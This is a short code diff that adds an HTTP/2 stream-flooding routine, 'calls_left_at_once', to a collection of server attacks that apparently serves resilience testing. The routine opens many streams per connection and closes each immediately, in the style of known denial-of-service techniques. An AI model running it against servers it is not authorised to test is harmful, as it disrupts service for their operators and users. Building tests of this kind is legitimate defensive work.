@@ -203,6 +203,15 @@ def closed_windows(target: str) -> None:
         connection.pump(1)
 
 
+def calls_left_at_once(target: str, connections: int = 20, calls: int = 150) -> None:
+    """Begin many calls and hang up at once, one connection after the other."""
+    for _ in range(connections):
+        with contextlib.suppress(ConnectionGoneError), Http2Connection(target) as connection:
+            connection.pump(0.05)
+            for _ in range(calls):
+                connection.send(connection.open(RESOLVE), message(b""), end=True)
+
+
 def no_http2(target: str) -> None:
     """Say what is no HTTP/2."""
     for words in (
@@ -265,6 +274,7 @@ ATTACKS: Mapping[str, Attack] = {
             rapid_resets,
             endless_headers,
             closed_windows,
+            calls_left_at_once,
             no_http2,
         )
     },
